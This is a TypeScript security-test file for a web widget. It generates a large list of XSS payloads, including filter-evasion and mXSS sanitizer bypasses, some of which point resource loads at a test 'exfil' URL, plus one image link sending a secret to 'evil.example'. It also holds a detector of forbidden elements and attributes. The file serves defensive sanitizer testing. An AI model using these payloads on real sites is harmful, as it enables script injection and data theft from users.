// XSS and exfiltration payloads for the widget's security tests: each sets `window.__xss` if it
// ever executes, and points every load at `exfil` (a URL on the test server) so that a request it
// causes is seen in resource timing. Sources: OWASP XSS filter evasion cheat sheet, PortSwigger's
// XSS cheat sheet, known DOMPurify mXSS bypasses, and markdown-specific vectors.

const RUN = '__xss=1';

/** Event-handler vectors: element × handler × attribute syntax. */
function handlerPayloads(exfil: string): string[] {
  const elements = [
    `img src=${exfil}h`,
    'svg',
    'body',
    `video src=${exfil}v`,
    `audio src=${exfil}a`,
    'details open',
    'input autofocus',
    `iframe src=${exfil}f`,
    'marquee',
    'select autofocus',
    'textarea autofocus',
    `object data=${exfil}o`,
  ];
  const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onstart'];
  const out: string[] = [];
  elements.forEach((element, index) => {
    const handler = handlers[index % handlers.length];
    out.push(`<${element} ${handler}=${RUN}>`);
    out.push(`<${element.toUpperCase()} ${handler?.toUpperCase()}="${RUN}">`);
    out.push(`<${element.replace(' ', '/')}/${handler}='${RUN}'>`);
    out.push(`<${element}\n${handler}\n=\n${RUN}>`);
  });
  return out;
}

/** Link destinations that must never become clickable script or data URLs. */
function schemePayloads(): string[] {
  const schemes = [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `javascript&colon;${RUN}`,
    `&#106;avascript:${RUN}`,
    `&#x6A;&#x61;&#x76;&#x61;script:${RUN}`,
    `java&#x09;script:${RUN}`,
    `java\\tscript:${RUN}`,
    `%6Aavascript:${RUN}`,
    `data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+`,
    `data:text/html,<script>${RUN}</script>`,
    'vbscript:msgbox(1)',
    `\u0001javascript:${RUN}`,
  ];
  const out: string[] = [];
  for (const scheme of schemes) {
    out.push(`[click](${scheme})`);
    out.push(`[ref link][r]\n\n[r]: ${scheme}`);
    out.push(`<a href="${scheme}">raw anchor</a>`);
  }
  out.push(`<javascript:${RUN}>`, `[x](<javascript:${RUN}>)`, `[x]( javascript:${RUN} "t")`);
  out.push(`[x](javas\ncript:${RUN})`, `[x](javascript:${RUN}\\))`, `[a](javascript://%0a${RUN})`);
  return out;
}

/** Images and other loads that would leak data without a click. */
function loadPayloads(exfil: string): string[] {
  return [
    `![secret](${exfil}img?q=secret)`,
    `![](${exfil}empty-alt)`,
    `![x](${exfil}titled "title")`,
    `![x][img]\n\n[img]: ${exfil}ref-image`,
    `[![nested](${exfil}nested)](https://example.com/)`,
    `<img src="${exfil}raw-img">`,
    `<img srcset="${exfil}srcset 1x">`,
    `<picture><source srcset="${exfil}picture"><img></picture>`,
    `<input type=image src="${exfil}input-image">`,
    `<video poster="${exfil}poster"></video>`,
    `<link rel=stylesheet href="${exfil}style.css">`,
    `<link rel=prefetch href="${exfil}prefetch">`,
    `<meta http-equiv=refresh content="0;url=${exfil}meta">`,
    `<base href="${exfil}base/">`,
    `<body background="${exfil}bg">`,
    `<table background="${exfil}table"><tr><td>x</td></tr></table>`,
    `<div style="background:url(${exfil}css-url)">x</div>`,
    `<style>@import '${exfil}import.css';</style>`,
    `<style>*{background:url(${exfil}style-bg)}</style>`,
    `<svg><image href="${exfil}svg-image"/></svg>`,
    `<svg><use href="${exfil}use#x"/></svg>`,
    `<embed src="${exfil}embed">`,
    `<object data="${exfil}object"></object>`,
    `<iframe src="${exfil}iframe"></iframe>`,
    `<audio src="${exfil}audio" autoplay></audio>`,
    `<script src="${exfil}script.js"></script>`,
    `![x](//${exfil.replace(/^https?:\/\//, '')}protocol-relative)`,
    `![x](https://evil.example/collect?d=SECRET)`,
  ];
}

/** Script elements, SVG/MathML, mXSS nests, entities, HTML blocks and markdown contexts. */
function structuralPayloads(exfil: string): string[] {
  return [
    `<script>${RUN}</script>`,
    `<SCRIPT>${RUN}</SCRIPT>`,
    `<script/src=data:,${RUN}></script>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<script>/*</script><script>${RUN}//*/</script>`,
    `<<script>${RUN};//<</script>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href=data:,${RUN} /></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><set onbegin=${RUN} attributeName=x to=1>`,
    `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe></foreignObject></svg>`,
    `<math href="javascript:${RUN}">x</math>`,
    `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x</maction></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
    `<template><script>${RUN}</script></template>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="javascript:${RUN}">`,
    `<form><button formaction=javascript:${RUN}>x</button></form>`,
    `<form action=javascript:${RUN}><input type=submit></form>`,
    `<isindex action=javascript:${RUN} type=image>`,
    `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
    `<div onpointerenter=${RUN} style="position:fixed;inset:0">cover</div>`,
    `<img src=x onerror="&#95;&#95;xss=1">`,
    `<img src=x onerror=eval(atob('X194c3M9MQ=='))>`,
    `<img src=x onerror=\u005f\u005fxss=1>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&#60;img src=x onerror=${RUN}&#62;`,
    `&#x3C;svg onload=${RUN}&#x3E;`,
    `\\<script\\>${RUN}\\</script\\>`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `<div>\n<script>${RUN}</script>\n</div>`,
    `<!-- --><script>${RUN}</script>`,
    `<!-- <img src=x onerror=${RUN}> -->`,
    `<![CDATA[<script>${RUN}</script>]]>`,
    `<?xml version="1.0"?><script>${RUN}</script>`,
    `<!DOCTYPE html><script>${RUN}</script>`,
    `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    `\`<img src=x onerror=${RUN}>\``,
    `    <script>${RUN}</script>`,
    `# <img src=x onerror=${RUN}>`,
    `> <svg onload=${RUN}>`,
    `- <script>${RUN}</script>\n- [x](javascript:${RUN})`,
    `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
    `**<img src=x onerror=${RUN}>**`,
    `[<img src=x onerror=${RUN}>](https://example.com/)`,
    `[x](https://example.com/ "\\" onmouseover=${RUN} x=\\"")`,
    `[x](https://example.com/ '"><img src=x onerror=${RUN}>')`,
    `[x](https://example.com/"onmouseover="${RUN})`,
    `<https://example.com/"onmouseover="${RUN}>`,
    `https://example.com/<img/src=x/onerror=${RUN}>`,
    `www.example.com/"><script>${RUN}</script>`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal template-injection payload.
    '${__xss=1}',
    "{{constructor.constructor('__xss=1')()}}",
    '<!--?lit$1234$--><img src=x onerror=__xss=1>',
    `<a id=x tabindex=1 onfocusin=${RUN}>x</a>`,
    `<base href="javascript:${RUN}//">`,
    `<link rel=import href="${exfil}import.html">`,
    `<img src="x" onerror="top.${RUN}">`,
    `<svg onload=${RUN}//`,
    `<img src=x onerror=${RUN}`,
    `<a href=javascript&#58;${RUN}>x</a>`,
  ];
}

/** Every payload (at least 150). */
export function createXssPayloads(exfil: string): string[] {
  return [
    ...handlerPayloads(exfil),
    ...schemePayloads(),
    ...loadPayloads(exfil),
    ...structuralPayloads(exfil),
  ];
}

/**
 * Lists everything dangerous in a (shadow) root: forbidden elements, `on*` attributes, loading
 * attributes, and `href`s that are not http(s)/mailto. The widget's own controls are allowed.
 */
export function findDangers(root: ParentNode): string[] {
  // Self-contained (no outer references) so end-to-end tests can run it inside a page.
  /** Elements that must never appear in the widget's shadow DOM. */
  const FORBIDDEN_ELEMENTS = new Set([
    'script',
    'iframe',
    'frame',
    'frameset',
    'object',
    'embed',
    'img',
    'image',
    'picture',
    'source',
    'video',
    'audio',
    'link',
    'meta',
    'base',
    'style',
    'form',
    'input',
    'math',
    'animate',
    'set',
    'use',
    'foreignobject',
    'template',
    'noscript',
    'xmp',
    'isindex',
    'marquee',
    'select',
  ]);
  /** Attributes that load or run something. */
  const FORBIDDEN_ATTRIBUTES = new Set([
    'srcdoc',
    'formaction',
    'action',
    'background',
    'poster',
    'srcset',
    'xlink:href',
    'style',
    'src',
    'data',
  ]);
  const dangers: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const name = element.localName.toLowerCase();
    // The widget's own controls: the stream toggle (a checkbox) and the composer form.
    const own =
      (name === 'input' &&
        element.getAttribute('role') === 'switch' &&
        element.closest('[part~="toggle"]')) ||
      (name === 'form' && element.getAttribute('part') === 'composer');
    if (FORBIDDEN_ELEMENTS.has(name) && !own) dangers.push(`<${name}>`);
    for (const attribute of element.attributes) {
      const attributeName = attribute.name.toLowerCase();
      if (attributeName.startsWith('on')) dangers.push(`${name}[${attributeName}]`);
      if (FORBIDDEN_ATTRIBUTES.has(attributeName)) dangers.push(`${name}[${attributeName}]`);
      if (attributeName === 'href' && !/^(https?:|mailto:)/i.test(attribute.value)) {
        dangers.push(`${name}[href=${attribute.value}]`);
      }
    }
  }
  return dangers;
}
